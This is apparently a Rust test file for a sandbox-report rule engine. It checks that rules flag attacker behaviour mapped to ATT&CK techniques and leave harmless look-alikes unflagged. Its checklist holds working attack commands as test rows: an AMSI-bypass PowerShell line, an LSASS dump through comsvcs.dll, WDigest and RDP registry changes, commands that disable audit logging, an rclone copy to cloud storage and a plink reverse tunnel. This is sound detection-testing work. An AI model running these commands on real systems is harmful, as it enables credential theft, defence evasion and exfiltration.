//! An analyst's checklist, line by line: what is marked by which rule and technique, and what nearly looks like it and is not.

use super::*;
use std::sync::LazyLock;

static RULES: LazyLock<Rules> = LazyLock::new(Rules::shipped);

/// The rules that mark the rows of a report, by their names, without noise.
fn found(json: &str) -> Vec<(String, Vec<String>)> {
    let report = report(json);
    let marks = RULES.judge(&report, &Cancel::default()).unwrap();
    let rows: Vec<_> = marks.notable().map(|(section, row, _)| (section, row)).collect();
    let rules = rows.iter().flat_map(|(section, row)| RULES.of_row(&report, &marks, *section, *row));
    let rules = rules.filter(|rule| rule.severity != Severity::Noise);
    rules.map(|rule| (rule.id.clone(), rule.attack.clone())).collect()
}

/// A report with one row of an attribute; a registry row is written `key = value`.
fn one(attribute: &str, row: &str) -> String {
    let row = row.replace('\\', r"\\").replace('"', "\\\"");
    let record = match (attribute, row.split_once(" = ")) {
        ("registry_keys_set", Some((key, value))) => format!(r#"{{"key":"{key}","value":"{value}"}}"#),
        ("processes_tree", Some((parent, name))) => {
            format!(r#"{{"name":"{parent}","children":[{{"name":"{name}"}}]}}"#)
        }
        ("processes_tree", None) => format!(r#"{{"name":"{row}"}}"#),
        ("dns_lookups", _) => format!(r#"{{"hostname":"{row}"}}"#),
        ("http_conversations", _) => format!(r#"{{"url":"{row}","request_method":"GET"}}"#),
        ("ip_traffic", _) => {
            let (address, port) = row.rsplit_once(':').unwrap();
            let address = format!(r#"{{"destination_ip":"{address}","destination_port":{port}"#);
            format!(r#"{address},"transport_layer_protocol":"TCP"}}"#)
        }
        _ => format!(r#""{row}""#),
    };
    format!(r#"{{"{attribute}":[{record}]}}"#)
}

const COMMAND: &str = "command_executions";
const SET: &str = "registry_keys_set";
const TREE: &str = "processes_tree";
const WRITTEN: &str = "files_written";
const WMI: &str = "system_property_lookups";
const ADDRESS: &str = "ip_traffic";
const HOST: &str = "dns_lookups";
const URL: &str = "http_conversations";
const TAG: &str = "tags";
const PERMISSION: &str = "permissions_requested";

/// Rule, technique, attribute, a row that it marks, and one that no such rule marks.
const CHECKLIST: &[(&str, &str, &str, &str, &str)] = &[
    (
        "amsi",
        "T1562.001",
        COMMAND,
        "powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
        "powershell -c Get-Date",
    ),
    (
        "amsi",
        "T1562.001",
        SET,
        r"HKCU\Software\Microsoft\Windows Script\Settings\AmsiEnable = 0",
        r"HKCU\Software\Microsoft\Windows Script\Settings\AmsiEnable = 1",
    ),
    ("etw", "T1562.006", COMMAND, "logman stop EventLog-Application -ets", "logman query -ets"),
    (
        "etw",
        "T1562.006",
        SET,
        r"HKLM\SOFTWARE\Microsoft\.NETFramework\ETWEnabled = 0x00000000",
        r"HKLM\SOFTWARE\Microsoft\.NETFramework\ETWEnabled = 0x00000001",
    ),
    ("audit-off", "T1562.002", COMMAND, "auditpol /set /category:* /success:disable", "auditpol /get /category:*"),
    ("audit-off", "T1562.002", COMMAND, "wevtutil sl Security /e:false", "wevtutil qe Security /c:1"),
    (
        "wdigest",
        "T1112",
        SET,
        r"<HKLM>\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential = 1",
        r"HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential = 0",
    ),
    (
        "wdigest",
        "T1112",
        COMMAND,
        r"reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
        r"reg query HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential",
    ),
    (
        "rdp-on",
        "T1021.001",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\fDenyTSConnections = 0",
        r"HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\fDenyTSConnections = 1",
    ),
    (
        "rdp-on",
        "T1021.001",
        COMMAND,
        r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#,
        r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 1 /f"#,
    ),
    ("safe-boot", "T1562.009", COMMAND, "bcdedit /set {default} safeboot network", "bcdedit /enum"),
    (
        "safe-boot",
        "T1562.009",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Network\x = Service",
        r"HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Option\OptionValue = 1",
    ),
    ("uac-program", "T1548.002", COMMAND, r"C:\Windows\System32\fodhelper.exe", r"C:\tools\nofodhelper.exe"),
    ("uac-child", "T1548.002", TREE, r"C:\Windows\System32\computerdefaults.exe = cmd.exe", "explorer.exe = cmd.exe"),
    (
        "uac-mock-folder",
        "T1548.002",
        COMMAND,
        r"C:\Windows \System32\ComputerDefaults.exe",
        r"C:\Windows\System32\calc.exe",
    ),
    (
        "uac-bypass",
        "T1548.002",
        SET,
        r"HKCU\Software\Classes\ms-settings\shell\open\command\DelegateExecute = ",
        r"HKCU\Software\Classes\ms-settings\CurVer = x",
    ),
    ("cipher-wipe", "T1485", COMMAND, r"cipher /w:C:\", r"cipher /e C:\a"),
    ("usn-journal", "T1070", COMMAND, "fsutil usn deletejournal /D C:", "fsutil usn queryjournal C:"),
    ("grants", "T1222.001", COMMAND, "icacls . /grant Everyone:F /T /C /Q", r"icacls C:\a"),
    (
        "browser-passwords",
        "T1555.003",
        "files_opened",
        r"C:\Users\a\AppData\Local\Google\Chrome\User Data\Default\Login Data",
        r"C:\Users\a\AppData\Local\Google\Chrome\User Data\Default\History",
    ),
    (
        "lsass",
        "T1003.001",
        COMMAND,
        r"rundll32 C:\windows\system32\comsvcs.dll, #24 624 C:\x.bin full",
        r"rundll32 C:\windows\system32\shell32.dll,#44",
    ),
    (
        "lsass",
        "T1003.001",
        WRITTEN,
        r"C:\Users\a\AppData\Local\Temp\lsass.DMP",
        r"C:\Users\a\AppData\Local\Temp\app.dmp",
    ),
    ("discovery", "T1033", COMMAND, "whoami /all", "echo whoami.txt"),
    ("discovery", "T1033", COMMAND, "cmd /c systeminfo & net user", "notes about systeminformation"),
    ("look-alike", "T1036.005", TREE, r"C:\Users\a\svhost.exe -k", r"C:\Windows\System32\svchost.exe -k"),
    ("look-alike", "T1036.005", COMMAND, r#""C:\ProgramData\svch0st.exe" /x"#, r"C:\Program Files\x\service.exe"),
    ("look-alike", "T1036.005", TREE, "scvhost.exe", "taskhostw.exe"),
    (
        "self-delete",
        "T1070.004",
        COMMAND,
        r"cmd /c ping 127.0.0.1 -n 3 & del C:\Users\a\x.exe",
        r"cmd /c ping 127.0.0.1 -n 3",
    ),
    ("self-deleted", "T1070.004", "files_deleted", "<PATH_SAMPLE.EXE>", r"C:\Users\a\x.tmp"),
    ("self-delete-tag", "T1070.004", TAG, "SELF_DELETE", "DELETES_TEMP"),
    ("mail-port", "T1071.003", ADDRESS, "203.0.113.5:587", "203.0.113.5:2587"),
    ("mail-port", "T1071.003", ADDRESS, "2001:db8::1:25", "2001:db8::25:443"),
    ("file-port", "T1071.002", ADDRESS, "203.0.113.5:21", "203.0.113.5:2121"),
    ("mail-host", "T1071.003", HOST, "smtp.example.com", "smtpless.example"),
    ("mail-host", "T1071.003", HOST, "ftp.example.com", "mail.google.com"),
    ("shared-host", "T1102", HOST, "t.me", "internet.me"),
    ("shared-host", "T1102", HOST, "file.io", "profile.io"),
    ("paste-site", "T1567", URL, "https://paste.ee/r/x", "https://example.com/paste"),
    ("dynamic-name", "T1572", HOST, "x.localhost.run", "localhost.example"),
    ("remote-tool", "T1219", WRITTEN, r"C:\Users\a\AnyDesk.exe", r"C:\Users\a\manydesk.exe"),
    ("remote-host", "T1219", HOST, "relay-1.net.anydesk.com", "anydesk.com.example"),
    ("cloud-copy", "T1567.002", COMMAND, r"rclone.exe copy C:\data mega:x", r"C:\myrclone.exe"),
    ("tunnel", "T1572", COMMAND, "ngrok tcp 3389", "ngroks tcp"),
    ("ssh-tunnel", "T1572", COMMAND, "plink.exe -R 3389:127.0.0.1:3389 a@203.0.113.5", "ssh a@example.com"),
    ("bare-address", "T1071.001", URL, "http://203.0.113.5/a.exe", "http://192.168.1.1/a"),
    ("bare-address", "T1071.001", URL, "http://203.0.113.5:81/a", "http://1.2.3.4.example.com/"),
    ("odd-port", "T1571", URL, "http://evil.example:4782/gate", "http://example.com:8080/"),
    ("ransom-note", "T1486", WRITTEN, r"%HOMEPATH%\desktop\@please_read_me@.txt", r"C:\app\readme.txt"),
    ("ransom-note", "T1486", WRITTEN, r"C:\Users\a\_readme.txt", r"C:\Users\a\unread messages.txt"),
    ("encrypted-names", "T1486", WRITTEN, r"%HOMEPATH%\desktop\a.doc.wncryt", r"C:\Users\a\a.doc"),
    ("windows-privileges", "T1134", PERMISSION, "SE_LOAD_DRIVER_PRIVILEGE", "SE_CHANGE_NOTIFY_PRIVILEGE"),
    ("windows-debug", "T1134", PERMISSION, "SeDebugPrivilege", "SeUndockPrivilege"),
    ("android-sms", "T1582", PERMISSION, "android.permission.SEND_SMS", "android.permission.INTERNET"),
    ("android-over", "T1417.002", PERMISSION, "android.permission.SYSTEM_ALERT_WINDOW", "android.permission.VIBRATE"),
    ("android-more", "T1418", PERMISSION, "android.permission.QUERY_ALL_PACKAGES", "android.permission.WAKE_LOCK"),
    (
        "wmi-defender",
        "T1562.001",
        WMI,
        r"IWbemServices::ExecMethod - root\Microsoft\Windows\Defender : MSFT_MpPreference::Add",
        r"IWbemServices::ExecMethod - root\Microsoft\Windows\Defender : MSFT_MpPreference::Get",
    ),
    (
        "wmi-process",
        "T1047",
        WMI,
        r"IWbemServices::ExecMethod - root\cimv2 : Win32_Process::Create",
        r"IWbemServices::ExecQuery - root\cimv2 : SELECT * FROM Win32_Process",
    ),
    (
        "wmi-scanner",
        "T1518.001",
        WMI,
        r"IWbemServices::ExecQuery - root\SecurityCenter2 : SELECT * FROM AntiVirusProduct",
        "ro.product.model",
    ),
    ("restart", "T1529", COMMAND, "Shutdown -r -t 5", "shutdown /a"),
    ("temp-program", "T1105", WRITTEN, r"C:\Users\a\AppData\Local\Temp\x.exe ", r"C:\Program Files\x.exe"),
    ("backup-stopped", "T1489", COMMAND, "net stop MSSQLSERVER /y", "net start MSSQLSERVER"),
    ("hosts-tag", "T1565.001", TAG, "HOSTS_MODIFIER", "HOSTS"),
    ("debug-tag", "T1622", TAG, "DETECT_DEBUG_ENVIRONMENT", "RUNTIME_MODULES"),
    ("extension-tag", "T1176", TAG, "INSTALLS_BROWSER_EXTENSION", "REFLECTION"),
    ("password-tag", "T1056.002", TAG, "PASSWORD_DIALOG", "DIALOG"),
    ("sudo-tag", "T1548", TAG, "SUDO", "CRYPTO"),
    ("gps-tag", "T1430", TAG, "CHECKS_GPS", "CRYPTO"),
    ("telephony-tag", "T1616", TAG, "TELEPHONY", "CRYPTO"),
    ("protocol-tag", "T1071", TAG, "SMTP_COMMUNICATION", "HTTP_COMMUNICATION"),
    ("database-tag", "T1213", TAG, "MYSQL_COMMUNICATION", "CRYPTO"),
    ("dns-tag", "T1568.002", TAG, "SUSPICIOUS_DNS", "DNS"),
    ("udp-tag", "T1095", TAG, "SUSPICIOUS_UDP", "UDP"),
    ("upstream-tag", "T1048", TAG, "BIG_UPSTREAM", "UPSTREAM"),
    ("tunnel-tag", "T1572", TAG, "TUNNELING", "TUNNEL"),
    ("macro-tag", "T1059.005", TAG, "MACRO_POWERSHELL", "MACROS"),
    ("dropped-tag", "T1105", TAG, "EXECUTES_DROPPED_FILE", "DROPS_FILE"),
];

#[test]
fn checklist_row_is_marked_and_near_miss_is_not() {
    let mut wrong = Vec::new();
    for (id, technique, attribute, row, near_miss) in CHECKLIST {
        let (marked, missed) = (found(&one(attribute, row)), found(&one(attribute, near_miss)));
        let is_so = |(found, attack): &(String, Vec<String>)| found == id && attack.iter().any(|id| id == technique);
        if !marked.iter().any(is_so) {
            wrong.push(format!("{id} misses {row}: {marked:?}"));
        }
        if missed.iter().any(|(found, _)| found == id) {
            wrong.push(format!("{id} marks {near_miss}"));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
}

/// What Windows and harmless programs do by themselves: no finding, or none but noise.
#[test]
fn windows_own_doing_is_no_finding() {
    for (attribute, row) in [
        (
            SET,
            r"HKLM\Software\Microsoft\SystemCertificates\AuthRoot\Certificates\02FAF3E291435468607857694DF5E45B68851868\Blob = 7E 00",
        ),
        (SET, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyEnable = 0x00000000"),
        (SET, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyEnable = 0"),
        (WRITTEN, r"C:\Users\<USER>\AppData\Local\Temp\r40wd1kx.3kv.ps1"),
        (WRITTEN, r"%TEMP%\31tuusg3.opk.psm1"),
        (SET, r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA = 1"),
        (SET, r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell = explorer.exe"),
        (SET, r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware = 0"),
        (SET, r"HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\BootExecute = autocheck autochk *"),
        (SET, r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\x\Enabled = 1"),
        (TREE, r"<SYSTEM32>\services.exe = <SYSTEM32>\svchost.exe"),
        (TREE, r"<SYSTEM32>\csrss.exe"),
        (TREE, r"\Device\HarddiskVolume2\Windows\System32\conhost.exe"),
        ("calls_highlighted", "NtMapViewOfSection"),
    ] {
        assert_eq!(found(&one(attribute, row)), [], "{row}");
    }
    let marked = |attribute, row| found(&one(attribute, row)).into_iter().map(|(id, _)| id).collect::<Vec<_>>();
    assert_eq!(
        marked(SET, r"HKLM\Software\Microsoft\SystemCertificates\ROOT\Certificates\AA\Blob = 7E"),
        ["root-certificate"]
    );
    assert_eq!(
        marked(SET, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyEnable = 1"),
        ["proxy"]
    );
    assert!(marked(WRITTEN, r"C:\Users\a\AppData\Local\Temp\install.ps1").contains(&"dropped-script".to_owned()));
    assert_eq!(marked(TREE, r"<DRIVERS>\svchost.exe"), [] as [&str; 0]);
    assert_eq!(marked(TREE, r"%TEMP%\svchost.exe"), ["svchost-elsewhere"]);
}

#[test]
fn sample_is_known_by_its_hash_and_placeholders() {
    let hash = "ab".repeat(32);
    let report = |attributes: &str| {
        format!(r#"{{"data":{{"type":"file_behaviour","id":"{hash}_Zenbox","attributes":{{{attributes}}}}}}}"#)
    };
    for (attributes, id) in [
        (format!(r#""files_deleted":["C:\\Users\\a\\Desktop\\{hash}.exe"]"#), "self-deleted"),
        (format!(r#""files_dropped":[{{"path":"C:\\ProgramData\\x.exe","sha256":"{hash}"}}]"#), "self-drop"),
        (format!(r#""files_copied":[{{"source":"C:\\{hash}","destination":"C:\\x.exe"}}]"#), "self-copy"),
        (r#""files_copied":[{"source":"<PATH_SAMPLE.EXE>","destination":"%APPDATA%\\x.exe"}]"#.to_owned(), "self-copy"),
        (format!(r#""command_executions":["cmd /c del C:\\{hash}"]"#), "self-delete"),
    ] {
        let ids: Vec<_> = found(&report(&attributes)).into_iter().map(|(id, _)| id).collect();
        assert!(ids.iter().any(|found| found == id), "{id}: {ids:?}");
    }
    for attributes in [
        format!(r#""files_dropped":[{{"path":"C:\\Users\\a\\{hash}.txt","sha256":"{hash}"}}]"#),
        format!(r#""files_dropped":[{{"path":"C:\\x.txt","sha256":"{}"}}]"#, "cd".repeat(32)),
        r#""files_copied":[{"source":"C:\\a.txt","destination":"C:\\b.txt"}]"#.to_owned(),
    ] {
        assert_eq!(found(&report(&attributes)), [], "{attributes}");
    }
}

#[test]
fn many_rows_of_a_kind_are_marked_and_few_are_not() {
    let files = |paths: &[String], rule: &str| {
        let paths: Vec<_> = paths.iter().map(|path| format!("\"{}\"", path.replace('\\', r"\\"))).collect();
        let marked = found(&format!(r#"{{"files_written":[{}]}}"#, paths.join(",")));
        marked.iter().filter(|(id, _)| id == rule).count()
    };
    let folders = ["Desktop", "Documents", r"Documents\a", "Pictures", "Music"];
    let paths = |count: usize, folder: &str, name: &str| {
        folders.iter().take(count).map(|within| format!(r"{folder}\{within}\{name}")).collect::<Vec<_>>()
    };
    assert_eq!(files(&paths(5, r"C:\Users\a", "info.txt"), "note-in-folders"), 5);
    assert_eq!(files(&paths(3, r"C:\Users\a", "info.txt"), "note-in-folders"), 0, "few");
    assert_eq!(files(&paths(5, r"C:\Program Files\x", "info.txt"), "note-in-folders"), 0, "an installer");
    assert_eq!(files(&paths(5, r"C:\Users\a", "LICENSE.txt"), "note-in-folders"), 0, "a licence");
    assert_eq!(files(&paths(5, r"C:\Users\a", "a.docx.x7k2"), "ending-added"), 5);
    assert_eq!(files(&paths(5, r"C:\Users\a", "a.docx.lnk"), "ending-added"), 0, "links to documents");
    assert_eq!(files(&paths(3, r"C:\Users\a", "a.docx.x7k2"), "ending-added"), 0, "few");
    assert_eq!(
        files(
            &["a.txt", "b.txt", "c.txt", "d.txt", "e.txt"].map(|name| format!(r"C:\Users\a\Desktop\{name}")),
            "note-in-folders"
        ),
        0
    );
}

#[test]
fn passwords_of_a_browser_that_runs_are_its_own() {
    let report = |program: &str| {
        let path = r"C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data";
        format!(r#"{{"files_opened":["{path}"],"processes_tree":[{{"name":"C:\\Program Files\\{program}"}}]}}"#)
    };
    let ids = |program: &str| found(&report(program)).into_iter().map(|(id, _)| id).collect::<Vec<_>>();
    assert_eq!(ids("x.exe"), ["browser-passwords", "browser-own"]);
    assert_eq!(ids("chrome.exe"), ["browser-own"]);
}

#[test]
fn many_without_its_two_names_is_refused() {
    let own = "[[rule]]\nid='a'\nseverity='low'\nname='a'\nwhy='a'\nregex='x'\nmany=3\n";
    let (_, problems) = Rules::read(Some(("r", own)));
    assert!(problems[0].contains("line 1") && problems[0].contains("(?P<each>...)"), "{problems:?}");
}
